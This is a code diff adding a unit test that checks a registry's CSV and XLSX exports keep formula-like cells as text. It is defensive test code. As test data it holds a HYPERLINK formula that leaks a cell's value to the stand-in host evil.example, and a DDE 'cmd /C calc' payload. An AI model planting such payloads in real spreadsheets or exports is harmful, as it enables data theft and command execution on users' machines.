@@ -3,7 +3,7 @@
 import csv
 import io
 import xml.etree.ElementTree as ET
-from datetime import date
+from datetime import UTC, date, datetime
 
 from openpyxl import load_workbook
 
@@ -13,7 +13,7 @@ from services.registry.ledgers.store import CONTRACTS, FIRMS, PATENTS, MemoryLed
 from services.registry.reports import html
 from services.registry.reports.svg import bar_chart, nice_ceiling
 from services.registry.reports.yearly import yearly
-from tests.unit.ledgers.script import YEAR, scripted_year
+from tests.unit.ledgers.script import YEAR, event, scripted_year
 
 NAMES = ("contract-turnover", "firms", "patents", "financing", "funnel")
 
@@ -98,3 +98,18 @@ def test_chart_bars_scale_to_a_round_axis() -> None:
     svg = ET.fromstring(bar_chart("测试 <图>", ["a", "b"], [("x", [50, 100])]))
     heights = [float(r.get("height")) for r in svg.iter("{http://www.w3.org/2000/svg}rect")]
     assert heights[1] == 2 * heights[0]
+
+
+async def test_a_cell_that_looks_like_a_formula_stays_text_in_csv_and_xlsx() -> None:
+    store = MemoryLedgerStore()
+    name, region = '=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+cmd|' /C calc'!A0"
+    await Projector(store).handle(event("org.registered", "o1", {
+        "id": "o1", "version": 1, "name": name, "kind": "firm", "region": region,
+        "qualifications": [{"code": "tech_sme"}]}, datetime(YEAR, 3, 1, tzinfo=UTC)))
+    table = await service.ledger(store, "firms", date(YEAR, 1, 1), date(YEAR, 12, 31), as_of=date(YEAR, 12, 31))
+
+    row = list(csv.reader(io.StringIO(export.to_csv(table).decode("utf-8-sig"))))[1]
+    assert row[1:3] == ["'" + name, "'" + region], "Excel runs a CSV cell starting with = + - @ as a formula"
+    sheet = load_workbook(io.BytesIO(export.to_xlsx(table))).active
+    cells = sheet[2][1:3]
+    assert [(c.value, c.data_type) for c in cells] == [(name, "s"), (region, "s")]
